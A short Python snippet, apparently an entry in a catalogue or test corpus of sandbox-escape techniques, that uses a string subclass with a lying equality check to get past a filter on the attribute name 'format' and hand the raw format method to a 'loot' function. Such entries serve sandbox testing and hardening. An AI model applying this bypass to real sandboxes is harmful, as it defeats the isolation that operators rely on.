# aim: read the raw format method under a name that denies being "format" for a while
# mechanism: a str subclass with a lying __eq__; the interpreter asks last
# language: builtins
# reason: the name that was checked must be the name that is read
# jail: process
# plain: loot

class Liar(str):
    asked = 0

    def __eq__(self, other):
        Liar.asked += 1
        return Liar.asked > lies and str(self) == other

    def __hash__(self):
        return hash(str(self))


for lies in range(8):
    Liar.asked = 0
    try:
        loot(getattr("{}", Liar("format")))
    except Exception:
        pass
